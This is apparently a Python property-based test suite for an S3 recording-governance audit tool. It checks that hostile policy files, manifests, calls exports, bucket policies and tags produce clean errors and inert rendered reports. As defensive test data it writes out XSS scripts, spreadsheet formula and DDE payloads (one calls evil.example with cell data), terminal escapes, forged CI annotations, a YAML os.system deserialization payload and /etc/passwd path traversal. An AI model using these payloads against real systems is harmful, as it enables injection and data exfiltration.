"""Hostile input: what recgov reads never crashes it, and what it renders never subverts a reader.

Property tests (hypothesis) feed the policy file, the stack config, the calls export, the inventory
manifest and its data, bucket-policy documents and tags: the only outcomes are a result or a clean
error (exit 2 or 3, one sentence), never a traceback. The audit commands are driven through the
command line only.
"""

from __future__ import annotations

import copy
import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from governance.checks import run_checks
from governance.checks.policy_semantics import judge_deny_requirement, public_allows
from governance.collect import make_clients
from governance.collect.observed import Observed
from governance.collect.s3 import READS, read
from governance.model import Status
from governance.report.html_style import FORMULA_GUARD
from governance.targets import StackOutputs
from governance.verify import collect_targets, judge_snapshots
from lifecycle.access import deny_requirements
from lifecycle.legal import Purpose
from lifecycle.loader import default_policy_text, load_policy
from tests.governance.audit.inventories import Row, rewrite_data_file, write_inventory
from tests.governance.audit.planted import ago
from tests.governance.cli_runner import recgov
from tests.governance.support import REGION, Account

SETTINGS = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                            HealthCheck.too_slow])

# Any JSON value, and YAML's extras that a policy file might hold (dates become datetimes).
scalars = st.none() | st.booleans() | st.integers(-10**12, 10**12) | st.floats(allow_nan=True) | st.text(max_size=40)
json_values = st.recursive(scalars, lambda inner: st.lists(inner, max_size=4)
                           | st.dictionaries(st.text(max_size=12), inner, max_size=4), max_leaves=20)

HOSTILE_TEXT = [
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b[2J\x1b[31mred",
    "line\n::error::forged annotation",
    "cell|with|pipes`and`*stars*[link](http://x)",
    "\u202egnp.exe",
    "x" * 2000,
    "nul\x00byte",
]
hostile = st.sampled_from(HOSTILE_TEXT) | st.text(max_size=60)



# --- the policy file and the stack config -----------------------------------------------------------

DEFAULT_POLICY: dict[str, Any] = yaml.safe_load(default_policy_text())


@st.composite
def mutated_policies(draw: st.DrawFn) -> Any:
    """The default policy with some values replaced by anything, keys dropped or added."""
    doc = copy.deepcopy(DEFAULT_POLICY)
    for _ in range(draw(st.integers(1, 4))):
        purposes = doc.get("purposes")
        if not isinstance(purposes, dict) or not purposes:
            break
        purpose = draw(st.sampled_from(sorted(purposes)))
        entry = purposes[purpose]
        if not isinstance(entry, dict):
            break
        action = draw(st.sampled_from(["replace", "drop", "add", "purpose", "top"]))
        key = draw(st.sampled_from(sorted(entry))) if entry else "retentionDays"
        if action == "replace":
            entry[key] = draw(json_values)
        elif action == "drop":
            entry.pop(key, None)
        elif action == "add":
            entry[draw(st.text(max_size=12))] = draw(json_values)
        elif action == "purpose":
            doc["purposes"][purpose] = draw(json_values)
        else:
            doc[draw(st.sampled_from(["version", "purposes", "extra"]))] = draw(json_values)
    return doc


raw_files = st.binary(max_size=300) | st.sampled_from([
    b"\xff\xfe\x00p\x00u",  # UTF-16 with a BOM
    b"purposes: &a [*a]",  # a recursive alias
    b"a: &a ['x','x']\nb: &b [*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b]\nd: [*c,*c,*c,*c]\n",  # alias fan-out
    b"purposes: !!python/object/apply:os.system ['echo pwned']",
    b"version: 1\npurposes:\n  quality: {retentionDays: 1e400}\n",
    b"---\n...\n---\n",
])


@SETTINGS
@given(doc=mutated_policies())
def test_policy_validate_on_a_mutated_policy_is_0_or_2(doc: Any, tmp_path: Path) -> None:
    path = tmp_path / "policy.yaml"
    path.write_text(yaml.safe_dump(doc, allow_unicode=True), encoding="utf-8")
    result = recgov("policy", "validate", "--policy", str(path))
    assert result.code in (0, 2), result.output
    if result.code == 2:
        assert result.out == "" and result.err.startswith("error: ")


@SETTINGS
@given(content=raw_files)
def test_policy_validate_on_arbitrary_bytes_is_0_or_2(content: bytes, tmp_path: Path) -> None:
    path = tmp_path / "policy.yaml"
    path.write_bytes(content)
    assert recgov("policy", "validate", "--policy", str(path)).code in (0, 2)


STACK_KEYS = ["purposes", "policyFile", "namePrefix", "deployerArn", "principals", "trustedAccountArn", "amazonConnect",
              "athena"]


@SETTINGS
@example(config={"recgov:policyFile": 1}, purposes={})  # once a TypeError in path arithmetic
@example(config={"recgov:policyFile": "nul\x00byte"}, purposes={})
@example(config={"recgov:policyFile": "."}, purposes={})
@given(config=st.dictionaries(st.sampled_from(STACK_KEYS).map(lambda k: f"recgov:{k}") | st.text(max_size=10),
                              json_values, max_size=5),
       purposes=st.dictionaries(st.sampled_from([str(p) for p in Purpose]) | st.text(max_size=8),
                                st.dictionaries(st.sampled_from(["retentionDays", "objectLockMode", "objectLockDays",
                                                                 "samplingRate"]) | st.text(max_size=8),
                                                json_values, max_size=3), max_size=3))
def test_policy_validate_on_a_hostile_stack_config_is_0_or_2(
    config: dict[str, Any], purposes: dict[str, Any], tmp_path: Path
) -> None:
    config.setdefault("recgov:purposes", purposes)
    path = tmp_path / "Pulumi.fuzz.yaml"
    path.write_text(yaml.safe_dump({"config": config}, allow_unicode=True), encoding="utf-8")
    assert recgov("policy", "validate", "--stack-config", str(path)).code in (0, 2)
    path.write_bytes(b"config: [" + json.dumps(config, default=str).encode()[:50])
    assert recgov("policy", "validate", "--stack-config", str(path)).code in (0, 2)


# --- the calls export and the inventory -------------------------------------------------------------

BUCKET = "recgov-dev-quality-0a1b2c3"


@pytest.fixture(scope="module")
def inventory(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small, valid CSV inventory of quality recordings (keys include hostile text, URL-encoded)."""
    rows = [Row(f"quality/2025/05/{d:02d}/C{d}.wav", ago(5)) for d in range(1, 6)]
    rows += [Row("quality/2025/05/06/<script>alert(1)<script>.wav", ago(5)),
             Row('quality/2025/05/07/=HYPERLINK("http:evil").wav', ago(5)),
             Row("quality/2025/05/08/\x1b[2Jline\nbreak.wav", ago(5))]
    manifest = write_inventory(tmp_path_factory.mktemp("inv"), BUCKET, rows, "CSV", files=1)
    (manifest.parent / "manifest.checksum").unlink()
    return manifest


call_cells = (st.sampled_from(["C1", "C2", "A1", "", "2025-05-01T08:00:00Z", "T-1", *HOSTILE_TEXT])
              | st.text(max_size=20))


@st.composite
def calls_files(draw: st.DrawFn) -> bytes:
    """A calls export: a header (right, wrong or missing), rows of any cells, or raw bytes."""
    if draw(st.integers(0, 4)) == 0:
        return draw(st.binary(max_size=200))
    out = io.StringIO()
    writer = csv.writer(out)
    header = draw(st.sampled_from([["call_id", "agent_id", "started_at", "transaction_id"],
                                   ["call_id", "agent_id"], []]) | st.lists(st.text(max_size=8), max_size=5))
    if header:
        writer.writerow(header)
    width = len(header) or 4
    for _ in range(draw(st.integers(0, 6))):
        # Mostly as wide as the header, sometimes ragged (shorter or longer rows).
        cells = draw(st.integers(max(0, width - 3), width + 2) | st.just(width))
        writer.writerow(draw(st.lists(call_cells, min_size=cells, max_size=cells)))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "latin-1", "utf-16"]))
    return out.getvalue().encode(encoding, errors="replace")


@SETTINGS
@given(calls=calls_files())
def test_proportionality_on_a_hostile_calls_export_is_a_result_or_a_clean_error(
    calls: bytes, inventory: Path, tmp_path: Path
) -> None:
    path = tmp_path / "calls.csv"
    path.write_bytes(calls)
    result = recgov("proportionality", "--calls", str(path), "--inventory", str(inventory), "--format", "json")
    assert result.code in (0, 1, 2, 3), result.output
    if result.code != 2:
        json.loads(result.out)  # a result is a whole report


def test_a_ragged_row_in_the_calls_export_is_a_clean_error(inventory: Path, tmp_path: Path) -> None:
    path = tmp_path / "calls.csv"
    path.write_bytes(b"call_id,agent_id,started_at,transaction_id\r\nC1\r\n")
    result = recgov("proportionality", "--calls", str(path), "--inventory", str(inventory))
    assert result.code == 2 and result.err.startswith("error: ")


@st.composite
def manifests(draw: st.DrawFn, original: dict[str, Any]) -> Any:
    """The valid manifest with fields replaced by anything, dropped, or its file list rewritten."""
    doc = copy.deepcopy(original)
    for _ in range(draw(st.integers(1, 3))):
        key = draw(st.sampled_from([*sorted(doc), "files.key", "files.size", "files.MD5checksum", "whole"]))
        if key == "whole":
            return draw(json_values)
        files = doc.get("files")
        # An earlier draw may have replaced the file list by any JSON: edit a file entry only if one is left.
        if key.startswith("files.") and isinstance(files, list) and files and isinstance(files[0], dict):
            field = key.split(".", 1)[1]
            doc["files"][0][field] = draw(json_values | st.sampled_from(
                ["../../../../etc/passwd", "/etc/passwd", "s3://elsewhere/x.csv.gz", "", "\x00"]))
        elif draw(st.booleans()):
            doc[key] = draw(json_values)
        else:
            doc.pop(key, None)
    return doc


@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
@given(data=st.data())
def test_audit_objects_on_a_hostile_manifest_is_a_result_or_a_clean_error(data: st.DataObject,
                                                                         inventory: Path) -> None:
    original = json.loads(inventory.read_text(encoding="utf-8"))
    doc = data.draw(manifests(original))
    try:
        inventory.write_text(json.dumps(doc), encoding="utf-8")
        result = recgov("audit-objects", "--inventory", str(inventory), "--as-of", "2025-06-01", "--format", "json")
    finally:
        inventory.write_text(json.dumps(original), encoding="utf-8")
    assert result.code in (0, 1, 2, 3), result.output
    if result.code == 2:
        assert result.out == "" and result.err.startswith("error: ")


@pytest.mark.parametrize("encoded", ["%FF%FE", "%C3%28", "%00%1B%5B2J", "%ED%A0%80"],
                         ids=["ff-fe", "bad-continuation", "nul-escape", "surrogate"])
def test_a_key_that_is_not_utf8_once_decoded_is_a_result_or_a_clean_error(
    encoded: str, tmp_path: Path
) -> None:
    """Inventory CSV keys are URL-encoded: nothing stops the bytes they decode to from being invalid
    UTF-8 (a lone surrogate, a broken sequence). The data file is rewritten with such a key, its size
    and MD5 updated in the manifest, and audited in every format."""
    import gzip

    manifest = write_inventory(tmp_path, BUCKET, [Row("quality/2025/05/09/RAWBYTES.wav", ago(5)),
                                                  Row("quality/2025/05/10/C10.wav", ago(5))], "CSV", files=1)
    (manifest.parent / "manifest.checksum").unlink()
    rewrite_data_file(manifest, lambda raw: gzip.compress(gzip.decompress(raw).replace(b"RAWBYTES", encoded.encode())))
    for fmt in ("text", "json", "markdown", "html", "junit", "sarif"):
        result = recgov("audit-objects", "--inventory", str(manifest), "--as-of", "2025-06-01", "--format", fmt)
        assert result.code in (0, 1, 2, 3), result.output
        if result.code != 2:
            assert_inert(result.out, fmt)


def test_hostile_keys_in_an_inventory_are_rendered_inert(inventory: Path) -> None:
    """Object keys are the one account string S3 lets hold anything: markup, formulas, escapes."""
    for fmt in ("text", "json", "markdown", "html", "junit", "sarif"):
        result = recgov("audit-objects", "--inventory", str(inventory), "--as-of", "2025-06-01", "--format", fmt)
        assert result.code in (0, 1, 3)
        assert_inert(result.out, fmt)


# --- what is read from the account: bucket policies, tags, any answer -------------------------------


def assert_inert(text: str, fmt: str) -> None:
    """The rendering properties every format keeps, whatever the values held."""
    assert "\x1b" not in text and "\u202e" not in text and "\x00" not in text, fmt
    if fmt in ("text", "markdown"):  # the formats printed into CI logs, where such a line is a command
        assert not any(line.lstrip().startswith("::error::") for line in text.splitlines()), fmt
    if fmt in ("json", "sarif"):
        json.loads(text)
    if fmt == "junit":
        import xml.etree.ElementTree as ET

        ET.fromstring(text.encode("utf-8"))
    if fmt in ("html", "markdown"):
        assert "<script>alert" not in text, fmt
    if fmt == "html":
        # Excel opens the page as a workbook: every cell must be text, never a formula.
        assert FORMULA_GUARD in text


@pytest.fixture
def governed(account: Account) -> Iterator[tuple[Account, Any, dict[str, Any]]]:
    """The stack's snapshots, collected once, to judge many hostile variations of one setting."""
    outputs = StackOutputs.from_dict(account.outputs)
    targets = outputs.targets()
    snapshots = collect_targets(make_clients(region=REGION), targets)
    yield account, (targets, outputs), snapshots


@SETTINGS
@given(document=json_values | st.dictionaries(st.sampled_from(["Version", "Statement", "Id"]), json_values)
       | st.builds(lambda s: {"Statement": s}, st.lists(st.dictionaries(
           st.sampled_from(["Effect", "Principal", "Action", "NotAction", "Resource", "NotResource", "Condition",
                            "Sid", "NotPrincipal"]), json_values), max_size=4)))
def test_any_bucket_policy_document_yields_results_never_an_exception(
    document: Any, governed: tuple[Account, Any, dict[str, Any]]
) -> None:
    import dataclasses

    account, (targets, outputs), snapshots = governed
    bucket = account.bucket(Purpose.QUALITY)
    if isinstance(document, dict):
        public_allows(document)
        for req in deny_requirements(Purpose.QUALITY, outputs.principals(Purpose.QUALITY, None), None, 90):
            judge_deny_requirement(document, f"arn:aws:s3:::{bucket}", req)
    # Through the collector's own parsing (a non-object is unreadable) and every check.
    observed = read(FakeS3({"Policy": json.dumps(document)}), bucket, next(r for r in READS if r.name == "policy"))
    changed = {**snapshots, bucket: dataclasses.replace(snapshots[bucket], policy=observed)}
    results = judge_snapshots(targets, account.policy, changed, outputs=outputs)
    policy_results = [r for r in results if r.resource == bucket and r.check.startswith("RG-POLICY")]
    assert policy_results
    if not isinstance(document, dict):
        assert {r.status for r in policy_results} == {Status.ERROR}


def test_a_huge_bucket_policy_is_judged(governed: tuple[Account, Any, dict[str, Any]]) -> None:
    """20 000 statements (far beyond S3's 20 KB limit): judged, not a hang or a crash."""
    import dataclasses
    import time

    account, (targets, outputs), snapshots = governed
    bucket = account.bucket(Purpose.QUALITY)
    statement = {"Effect": "Deny", "Principal": "*", "Action": ["s3:Get*", "s3:Put*"], "Resource": "*",
                 "Condition": {"StringNotLike": {"aws:PrincipalArn": ["arn:aws:iam::1:role/x*"] * 5}}}
    document = {"Version": "2012-10-17", "Statement": [statement] * 20_000}
    observed = read(FakeS3({"Policy": json.dumps(document)}), bucket, next(r for r in READS if r.name == "policy"))
    changed = {**snapshots, bucket: dataclasses.replace(snapshots[bucket], policy=observed)}
    started = time.monotonic()
    results = judge_snapshots(targets, account.policy, changed, outputs=outputs)
    assert time.monotonic() - started < 20
    assert any(r.check.startswith("RG-POLICY") and r.resource == bucket for r in results)


class FakeS3:
    """A client whose every call answers ``response``: how a hostile or broken endpoint looks after
    botocore's parsing (the collector must cope with any shape)."""

    def __init__(self, response: Any) -> None:
        self.response = response

    def __getattr__(self, name: str) -> Any:
        return lambda **_kwargs: self.response


@SETTINGS
@given(response=json_values | st.dictionaries(st.sampled_from(sorted({r.field for r in READS if r.field})),
                                               json_values, min_size=1),
       row=st.sampled_from(READS))
def test_any_answer_shape_is_read_as_present_absent_or_unreadable(response: Any, row: Any) -> None:
    observed = read(FakeS3(response), "b", row)
    assert isinstance(observed, Observed)


@SETTINGS
@given(tags=st.dictionaries(hostile, hostile, max_size=6), purpose_tag=hostile)
def test_hostile_tags_are_judged_and_rendered_inert_in_every_format(
    tags: dict[str, str], purpose_tag: str, governed: tuple[Account, Any, dict[str, Any]]
) -> None:
    import dataclasses

    from governance.model import Report
    from governance.report import FORMATS, render

    account, (targets, outputs), snapshots = governed
    bucket = account.bucket(Purpose.QUALITY)
    tag_set = [{"Key": k, "Value": v} for k, v in {**tags, "recgov:purpose": purpose_tag}.items()]
    observed = read(FakeS3({"TagSet": tag_set}), bucket, next(r for r in READS if r.name == "tags"))
    changed = {**snapshots, bucket: dataclasses.replace(snapshots[bucket], tags=observed)}
    results = judge_snapshots(targets, account.policy, changed, outputs=outputs)
    tag_result = next(r for r in results if r.check == "RG-PURPOSE-TAG" and r.resource == bucket)
    assert tag_result.status is (Status.PASS if purpose_tag == "quality" else Status.FAIL)
    report = Report(results=tuple(results), target={"buckets": {bucket: purpose_tag}}, policy_digest="d",
                    generated_at="2025-06-01T00:00:00+00:00", tool_version="t")
    for fmt in FORMATS:
        assert_inert(render(report, fmt), fmt)


def test_hostile_settings_on_the_account_end_to_end(account: Account) -> None:
    """Strings S3 stores verbatim (tags, lifecycle rule ids and prefixes, policy Sids) with markup,
    formulas and escapes, read back through the collector and shown in every format."""
    bucket = account.bucket(Purpose.QUALITY)
    account.s3.put_bucket_tagging(Bucket=bucket, Tagging={"TagSet": [
        {"Key": "recgov:purpose", "Value": '=HYPERLINK("http://evil.example","x")'},
        # XML 1.0 cannot carry most control characters, so S3 tag values never hold them; a line
        # break and markup it can.
        {"Key": "<b>owner</b>", "Value": "<script>alert(1)</script>\n::error::forged"},
    ]})
    policy = json.loads(account.s3.get_bucket_policy(Bucket=bucket)["Policy"])
    policy["Statement"].append({"Sid": "x<script>alert(1)</script>", "Effect": "Allow", "Principal": "*",
                                "Action": "s3:GetObject", "Resource": f"arn:aws:s3:::{bucket}/=cmd|calc!A0\x1b"})
    account.s3.put_bucket_policy(Bucket=bucket, Policy=json.dumps(policy))
    for fmt in ("text", "json", "markdown", "html", "junit", "sarif"):
        result = recgov("verify", "--bucket", f"{bucket}=quality", "--region", REGION, "--format", fmt)
        assert result.code == 1, result.output  # the tag and the public Allow are violations
        assert_inert(result.out, fmt)


def test_run_checks_on_an_unreadable_everything_snapshot_is_all_errors() -> None:
    """The floor of every fault: nothing readable yields no pass and no fail."""
    from governance.checks import Expected
    from governance.collect.snapshot import BucketSnapshot
    from lifecycle.render import render_bucket

    policy = load_policy()
    snap = BucketSnapshot("b")  # every setting 'not collected', i.e. unreadable
    for purpose in Purpose:
        if purpose not in policy.purposes:
            continue
        expected = Expected(bucket="b", purpose=purpose, policy=policy[purpose], spec=render_bucket(policy[purpose]))
        statuses = {r.status for r in run_checks(expected, snap)}
        assert statuses == {Status.ERROR}, (purpose, statuses)
